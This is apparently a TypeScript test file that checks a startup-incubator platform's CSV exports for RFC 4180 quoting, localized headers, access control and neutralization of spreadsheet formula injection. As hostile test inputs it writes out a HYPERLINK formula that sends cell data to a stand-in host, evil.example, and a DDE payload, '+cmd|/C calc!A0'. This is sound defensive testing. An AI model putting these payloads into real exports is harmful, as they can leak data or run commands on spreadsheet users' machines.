// Every CSV export goes through one writer: RFC 4180, UTF-8 with a byte-order mark, headers in the caller's
// language, and no cell a spreadsheet would run as a formula — hostile cohort, sector and member names included.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { toCsv } from '@launchpad/server/exports/csv';
import { createTestApp, type TestApp } from '../support/app';
import { sql } from '../support/fund';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const FORMULAS = [HYPERLINK, '+1+2', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1'];

let t: TestApp;
let board: string;

async function inject(query: string, variables: Record<string, unknown>, token: string, language?: string) {
  const response = await t.app.inject({
    method: 'POST',
    url: '/graphql',
    headers: { authorization: `Bearer ${token}`, ...(language ? { 'accept-language': language } : {}) },
    payload: { query, variables },
  });
  return response.json() as { data: Record<string, string> | null; errors?: unknown[] };
}

function rowsOf(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

/** A spreadsheet runs a cell as a formula when its text starts with one of these. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

beforeAll(async () => {
  t = await createTestApp();
  board = await t.loginAs('BOARD');
  const manager = await t.loginAs('INCUBATOR_MANAGER');
  const admin = await t.loginAs('ADMIN');
  const sector = await t.gql(
    'mutation($i: CreateSectorInput!) { createSector(input: $i) { code } }',
    { i: { code: 'hostile', nameVi: HYPERLINK, nameEn: '@evil' } },
    admin,
  );
  expect(sector.errors).toBeUndefined();
  const startup = await t.gql<{ createStartup: { id: string } }>(
    'mutation($i: CreateStartupInput!) { createStartup(input: $i) { id } }',
    { i: { name: '-Xấu, "tên" có dấu phẩy', sector: 'hostile' } },
    manager,
  );
  expect(startup.errors).toBeUndefined();
  const cohort = await t.gql<{ createCohort: { id: string } }>(
    'mutation($i: CohortInput!) { createCohort(input: $i) { id } }',
    { i: { name: '+cmd|/C calc!A0', startDate: '2026-01-05', endDate: '2026-06-30' } },
    manager,
  );
  expect(cohort.errors).toBeUndefined();
  await sql(t, 'update startups set cohort_id = $1 where id = $2', [
    cohort.data!.createCohort.id,
    startup.data!.createStartup.id,
  ]);
}, 60_000);

afterAll(async () => {
  await t?.close();
});

describe('the CSV writer', () => {
  it('quotes commas, quotes, CR and LF, doubles quotes and ends every record with CRLF', () => {
    const csv = toCsv(
      ['a', 'b'],
      [
        ['x,y', 'say "hi"'],
        ['line\nbreak', 'cr\ronly'],
        [12n, null],
      ],
    );
    expect(csv).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n"line\nbreak","cr\ronly"\r\n12,\r\n');
  });

  it('neutralizes every formula start but leaves plain numbers as numbers', () => {
    const rows = rowsOf(toCsv(['cell'], [...FORMULAS.map((f) => [f]), ['-1500'], [-7]]));
    expect(rows.slice(1).map(([cell]) => cell)).toEqual([...FORMULAS.map((f) => `'${f}`), '-1500', '-7']);
  });
});

describe("the board's CSV", () => {
  const KPI_CSV = 'query($lang: Language) { kpiCsv(lang: $lang) }';

  it('is written by the server with no cell a spreadsheet would run, hostile sector and cohort names included', async () => {
    const result = await inject(KPI_CSV, {}, board);
    expect(result.errors).toBeUndefined();
    const rows = rowsOf(result.data!.kpiCsv!);
    const cells = rows.flat();
    expect(cells.filter(runsAsFormula)).toEqual([]);
    expect(cells).toContain(`'${HYPERLINK} — Doanh nghiệp`);
    expect(cells).toContain("'+cmd|/C calc!A0 — Doanh nghiệp");
    expect(rows.every((row) => row.length === 5)).toBe(true);
  });

  it('writes its headers and labels in the caller’s language: lang, else Accept-Language, else Vietnamese', async () => {
    const vi = rowsOf((await inject(KPI_CSV, {}, board)).data!.kpiCsv!);
    expect(vi[0]).toEqual(['Mục', 'Chỉ tiêu', 'Thực hiện', 'Mục tiêu / kế hoạch', 'Đơn vị']);
    const en = rowsOf((await inject(KPI_CSV, {}, board, 'en-US,en;q=0.9')).data!.kpiCsv!);
    expect(en[0]).toEqual(['Section', 'Item', 'Actual', 'Target / plan', 'Unit']);
    expect(en.flat()).toContain("'@evil — Startups");
    const forced = rowsOf((await inject(KPI_CSV, { lang: 'VI' }, board, 'en')).data!.kpiCsv!);
    expect(forced[0]![0]).toBe('Mục');
  });

  it('is refused to a founder like the dashboard', async () => {
    const founder = await t.loginAs('FOUNDER');
    const result = await inject(KPI_CSV, {}, founder);
    expect(result.errors).toBeDefined();
    expect(result.data).toBeNull();
  });
});

describe("the fund's CSV", () => {
  it('uses the same writer: BOM, localized headers, a hostile member name neutralized', async () => {
    const fundManager = await t.loginAs('FUND_MANAGER');
    const fund = await t.gql<{ createFund: { id: string } }>(
      'mutation($i: CreateFundInput!) { createFund(input: $i) { id } }',
      { i: { name: 'Quỹ CSV' } },
      fundManager,
    );
    const fundId = fund.data!.createFund.id;
    const commit = await t.gql(
      'mutation($i: CommitCapitalInput!) { commitCapital(input: $i) { id } }',
      { i: { fundId, memberName: HYPERLINK, memberType: 'PRIVATE', amount: '1000' } },
      fundManager,
    );
    expect(commit.errors).toBeUndefined();
    const query = 'query($f: ID!, $lang: Language) { fundCsv(fundId: $f, table: MEMBERS, lang: $lang) }';
    const vi = rowsOf((await inject(query, { f: fundId }, board)).data!.fundCsv!);
    expect(vi[0]).toEqual(['Mã thành viên', 'Tên', 'Loại', 'Đã cam kết', 'Đã góp']);
    expect(vi[1]!.slice(1)).toEqual([`'${HYPERLINK}`, 'PRIVATE', '1000', '0']);
    const en = rowsOf((await inject(query, { f: fundId, lang: 'EN' }, board)).data!.fundCsv!);
    expect(en[0]).toEqual(['Member ID', 'Name', 'Type', 'Committed', 'Paid in']);
  });
});
